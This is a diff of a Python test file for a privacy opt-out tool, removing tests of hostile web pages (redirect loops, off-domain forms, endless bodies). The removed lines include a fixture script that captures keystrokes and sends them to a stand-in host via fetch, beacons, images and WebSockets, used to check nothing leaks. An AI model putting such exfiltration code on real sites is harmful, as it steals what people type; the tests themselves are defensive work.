@@ -1,10 +1,10 @@
-"""Pages that loop, lure, pop up, flood, hang or send elsewhere: bounded, and nothing leaks."""
+"""Difficult pages, with what became of the site and the capture; most are in ``tests/hostile``."""
 
 import asyncio
 import time
 
 import pytest
-from starlette.types import Message, Receive, Scope, Send
+from starlette.types import Receive, Scope, Send
 
 from optout.channels.web.markup import Markup
 from optout.requests.actions import Action
@@ -37,30 +37,6 @@ async def silent(scope: Scope, receive: Receive, send: Send) -> None:
         pass
 
 
-async def endless(scope: Scope, receive: Receive, send: Send) -> None:
-    """A page without end; bounded at 60 MB, so that a failing test ends too."""
-    await send(START)
-    for _ in range(240):
-        await send(_piece(b" " * 262_144))
-    await send({"type": "http.response.body", "body": b"", "more_body": False})
-
-
-async def cut_off(scope: Scope, receive: Receive, send: Send) -> None:
-    """Breaks off in the middle of its answer."""
-    await send({**START, "headers": [(b"content-length", b"9000"), (b"content-type", b"text/html")]})
-    await send(_piece(b"<h1>Requ"))
-
-
-def _piece(body: bytes) -> Message:
-    return {"type": "http.response.body", "body": body, "more_body": True}
-
-
-def test_it_does_not_follow_a_redirect_loop(site: Site, run: Runs) -> None:
-    site.page("/optout", "", 302, location="/optout")
-    assert told(run) == (Answer.UNRECOGNISED, Failure.TOO_MANY_REDIRECTS, Sent.NO)
-    assert len(site.hits) == 6
-
-
 def test_it_follows_five_redirects_to_the_form(site: Site, run: Runs) -> None:
     site.page("/form", form())
     for place in range(4):
@@ -70,40 +46,6 @@ def test_it_follows_five_redirects_to_the_form(site: Site, run: Runs) -> None:
     assert told(run)[1] == Failure.TOO_MANY_REDIRECTS
     site.page("/3", "", 302, location="/form")
     assert told(run)[0] == Answer.DONE
-
-
-def test_it_does_not_follow_a_page_that_keeps_sending_itself_on(site: Site, browse: Runs) -> None:
-    site.page("/optout", "<script>location.replace('/optout?' + Math.random())</script>")
-    assert told(browse) == (Answer.UNRECOGNISED, Failure.TOO_MANY_REDIRECTS, Sent.NO)
-
-
-def test_it_does_not_follow_a_redirect_to_another_domain(site: Site, elsewhere: Site, run: Runs) -> None:
-    site.page("/optout", "", 302, location=f"{ELSEWHERE}/optout")
-    assert told(run) == (Answer.UNRECOGNISED, Failure.OFF_DOMAIN, Sent.NO)
-    assert elsewhere.hits == []
-
-
-def test_it_does_not_follow_a_script_to_another_domain(
-    site: Site, elsewhere: Site, browse: Runs
-) -> None:
-    site.page("/optout", f"<h1>Wait</h1><script>location = '{ELSEWHERE}/optout'</script>")
-    assert told(browse) == (Answer.UNRECOGNISED, Failure.OFF_DOMAIN, Sent.NO)
-    assert elsewhere.hits == []
-
-
-@pytest.mark.parametrize("status", [302, 307])
-def test_the_facts_do_not_follow_a_redirect_elsewhere(
-    site: Site, elsewhere: Site, run: Runs, status: int
-) -> None:
-    site.page("/send", "", status, location=f"{ELSEWHERE}/collect")
-    assert told(run) == (Answer.UNRECOGNISED, Failure.OFF_DOMAIN, Sent.YES)
-    assert elsewhere.hits == []
-
-
-def test_the_facts_do_not_follow_a_redirect_without_encryption(site: Site, run: Runs) -> None:
-    site.page("/send", "", 307, location="http://acme-people.example/again")
-    assert told(run) == (Answer.UNRECOGNISED, Failure.FORM_CHANGED, Sent.YES)
-    assert site.to("POST", "/again") == []
 
 
 @pytest.mark.parametrize("path", ["/search", "/next"])
@@ -121,53 +63,6 @@ def test_no_script_leads_to_an_unencrypted_page(site: Site, browse: Runs) -> Non
     assert told(browse, Action.SEARCH) == (Answer.UNRECOGNISED, Failure.OFF_DOMAIN, Sent.NO)
 
 
-def test_a_form_that_posts_elsewhere_is_not_sent(site: Site, elsewhere: Site, run: Runs) -> None:
-    site.page("/optout", form(start=f'<h1>Opt out</h1><form method=post action="{ELSEWHERE}/collect">'))
-    assert told(run) == (Answer.UNRECOGNISED, Failure.OFF_DOMAIN, Sent.NO)
-    assert elsewhere.hits == []
-
-
-def test_a_form_that_turns_elsewhere_at_the_last_moment_is_not_sent(
-    site: Site, elsewhere: Site, browse: Runs
-) -> None:
-    turn = f"<script>document.forms[0].onsubmit = e => {{ e.target.action = '{ELSEWHERE}/x' }}</script>"
-    site.page("/optout", form(end="<button>Send request</button></form>" + turn))
-    assert told(browse) == (Answer.UNRECOGNISED, Failure.OFF_DOMAIN, Sent.NO)
-    assert elsewhere.hits == []
-
-
-def test_a_form_without_encryption_is_not_sent(site: Site, run: Runs) -> None:
-    start = '<h1>Opt out</h1><form method=post action="http://acme-people.example/send">'
-    site.page("/optout", form(start=start))
-    assert told(run) == (Answer.UNRECOGNISED, Failure.FORM_CHANGED, Sent.NO)
-    assert site.to("POST", "/send") == []
-
-
-def test_a_form_that_answers_in_another_window_is_not_sent(site: Site, run: Runs) -> None:
-    site.page("/optout", form(start='<h1>Opt out</h1><form method=post action="/send" target="_blank">'))
-    assert told(run) == (Answer.UNRECOGNISED, Failure.FORM_CHANGED, Sent.NO)
-    assert site.to("POST", "/send") == []
-
-
-def test_an_endless_page_is_too_large(site: Site, run: Runs) -> None:
-    site.apps["/optout"] = endless
-    outcome = run(Action.SUBMIT, bounds=quick(expect_s=9)).outcome
-    assert (outcome.answer, outcome.failure) == (Answer.UNRECOGNISED, Failure.TOO_LARGE)
-    assert outcome.sent == Sent.NO
-
-
-def test_an_endless_answer_is_too_large_but_was_sent(site: Site, run: Runs) -> None:
-    site.apps["/send"] = endless
-    outcome = run(Action.SUBMIT, bounds=quick(expect_s=9)).outcome
-    assert outcome.failure == Failure.TOO_LARGE
-    assert outcome.sent in (Sent.YES, Sent.MAYBE)
-
-
-def test_a_silent_page_is_a_timeout(site: Site, browse: Runs) -> None:
-    site.apps["/optout"] = silent
-    assert told(browse) == (Answer.UNREACHABLE, Failure.TIMEOUT, Sent.NO)
-
-
 def test_a_silent_answer_may_have_been_sent(site: Site, browse: Runs) -> None:
     site.apps["/send"] = silent
     assert told(browse) == (Answer.UNREACHABLE, Failure.TIMEOUT, Sent.MAYBE)
@@ -181,18 +76,6 @@ def test_the_whole_attempt_is_bounded_and_says_that_it_may_have_sent(site: Site,
     step = "send" if run.way == "plain" else "read-receipt"
     assert (outcome.failure, outcome.sent, outcome.step) == (Failure.TIMEOUT, Sent.MAYBE, step)
     assert time.monotonic() - start < 8
-
-
-def test_an_answer_that_breaks_off_is_never_done(site: Site, run: Runs) -> None:
-    site.apps["/send"] = cut_off
-    outcome = run(Action.SUBMIT).outcome
-    assert outcome.answer == Answer.UNREACHABLE
-    assert outcome.sent in (Sent.YES, Sent.MAYBE)
-
-
-def test_a_page_with_too_many_controls_is_not_recognised(site: Site, plain: Runs) -> None:
-    site.page("/optout", form("<input type=hidden name=h>" * 1501))
-    assert told(plain) == (Answer.UNRECOGNISED, Failure.TOO_LARGE, Sent.NO)
 
 
 def test_reading_a_slow_page_does_not_stop_the_time_limits(
@@ -220,24 +103,6 @@ def test_an_unknown_host_is_no_connection(site: Site, run: Runs) -> None:
     }
     outcome = run(Action.SUBMIT, pages=pages, domains=["gone.example"]).outcome
     assert (outcome.answer, outcome.failure) == (Answer.UNREACHABLE, Failure.NO_CONNECTION)
-
-
-def test_dialogs_and_popups_do_not_stop_it(site: Site, browse: Runs) -> None:
-    nuisance = (
-        "<script>alert('hello'); if (confirm('sure?')) document.title = 'agreed';"
-        "window.open('/advert'); onbeforeunload = () => 'stay'</script>"
-    )
-    site.page("/optout", form(end="<button>Send request</button></form>" + nuisance))
-    site.page("/advert", "<h1>Request received</h1>")
-    ran = browse(Action.SUBMIT)
-    assert ran.outcome == Outcome(Answer.DONE, step="read-receipt", sent=Sent.YES)
-    assert [hit.fields for hit in site.to("POST", "/send")] == [EXPECTED_FIELDS[:-1]]
-
-
-def test_a_download_is_refused(site: Site, browse: Runs) -> None:
-    site.page("/optout", "data", 200, content_type="application/zip", content_disposition="attachment")
-    site.apps["/optout"].headers["content-type"] = "application/zip"  # type: ignore[attr-defined]
-    assert told(browse) == (Answer.UNRECOGNISED, Failure.LAYOUT_UNKNOWN, Sent.NO)
 
 
 def test_a_page_that_never_stops_thinking_ends_with_the_attempt(site: Site, browse: Runs) -> None:
@@ -278,24 +143,12 @@ def test_a_flash_of_no_results_before_the_script_has_fetched_them_is_no_absence(
     assert [record.key for record in ran.capture.records] == [HOME + "/p/1"]
 
 
-def test_no_results_while_a_script_still_waits_are_no_absence(site: Site, browse: Runs) -> None:
-    site.apps["/rows"] = silent
-    site.page("/search", FETCHED)
-    assert told(browse, Action.SEARCH) == (Answer.UNREACHABLE, Failure.TIMEOUT, Sent.NO)
-
-
 def test_a_receipt_drawn_by_a_script_is_waited_for(site: Site, browse: Runs) -> None:
     site.page(
         "/send",
         f"<p>Wait</p><script>setTimeout(() => document.body.innerHTML = '{RECEIPT}', 300)</script>",
     )
     assert told(browse) == (Answer.DONE, None, Sent.YES)
-
-
-def test_a_form_that_a_script_holds_back_was_not_sent(site: Site, browse: Runs) -> None:
-    hold = "<script>document.forms[0].onsubmit = () => false</script>"
-    site.page("/optout", form(end="<button>Send request</button></form>" + hold))
-    assert told(browse) == (Answer.UNRECOGNISED, Failure.LAYOUT_UNKNOWN, Sent.NO)
 
 
 def test_a_form_sent_by_a_script_is_seen_to_leave(site: Site, browse: Runs) -> None:
@@ -368,32 +221,6 @@ def test_a_second_recipient_of_the_form_is_recorded_besides_the_page(site: Site,
     site.page("/optout", form(start=start))
     disclosed = browse(Action.SUBMIT).capture.disclosed
     assert [one.recipient for one in disclosed] == [HOST] * 4 + [f"forms.{HOST}"] * 4
-
-
-SPIES = """
-<img src="https://elsewhere.example/pixel.gif"><iframe src="https://elsewhere.example/frame"></iframe>
-<link rel="stylesheet" href="https://elsewhere.example/style.css">
-<script src="https://elsewhere.example/replay.js"></script>
-<script>
-  const spy = "https://elsewhere.example/";
-  document.addEventListener("input", (event) => {
-    const typed = encodeURIComponent(event.target.value);
-    fetch(spy + "fetch?" + typed, { mode: "no-cors" }).catch(() => 0);
-    navigator.sendBeacon(spy + "beacon?" + typed);
-    new Image().src = spy + "image?" + typed;
-    try { new WebSocket("wss://elsewhere.example/socket?" + typed); } catch (refused) { }
-  });
-</script>
-"""
-
-
-def test_what_is_typed_reaches_nobody_but_the_provider(
-    site: Site, elsewhere: Site, browse: Runs
-) -> None:
-    site.page("/optout", form(SPIES))
-    assert browse(Action.SUBMIT).outcome.answer == Answer.DONE
-    assert len(site.to("POST", "/send")) == 1
-    assert elsewhere.hits == []
 
 
 def test_a_domain_that_the_definition_names_may_be_loaded_from(
